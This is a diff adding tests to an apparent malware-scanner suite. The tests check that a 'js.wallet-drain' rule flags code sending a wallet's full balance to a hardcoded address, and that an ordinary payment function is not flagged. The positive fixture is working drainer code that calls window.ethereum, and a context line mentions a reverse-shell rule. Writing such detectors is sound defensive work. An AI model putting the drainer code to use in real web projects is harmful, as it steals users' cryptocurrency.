@@ -2008,3 +2008,30 @@ spawn('python3', ['-c', code], { detached: true, stdio: 'ignore' }).unref();`,
     expect(r.evidence.find((f) => f.rule === 'js.exec-reverse-shell')?.line).toBe(3);
   });
 });
+
+describe('wallet drainers', () => {
+  it("the provider's balance sent with eth_sendTransaction to an address in the code", () => {
+    const r = analyzeSource({
+      'package.json': pkg(),
+      'index.js': `const DRAIN = '0x52908400098527886E0F7030069857D2E4169EE7';
+export async function connect() {
+  const [from] = await window.ethereum.request({ method: 'eth_requestAccounts' });
+  const bal = await window.ethereum.request({ method: 'eth_getBalance', params: [from, 'latest'] });
+  await window.ethereum.request({ method: 'eth_sendTransaction', params: [{ from, to: DRAIN, value: bal }] });
+}`,
+    });
+    expect(r.evidence.find((f) => f.rule === 'js.wallet-drain')?.line).toBe(5);
+    expect(r.risk_level).toBe('critical');
+  });
+  it('a transfer of what the caller chose, to an address the caller gives, is not', () => {
+    const r = analyzeSource({
+      'package.json': pkg(),
+      'index.js': `export async function pay(signer, to, value) {
+  const bal = await signer.provider.getBalance(await signer.getAddress());
+  if (bal < value) throw new Error('insufficient funds');
+  return signer.sendTransaction({ to, value });
+}`,
+    });
+    expect(r.evidence.map((f) => f.rule)).not.toContain('js.wallet-drain');
+  });
+});
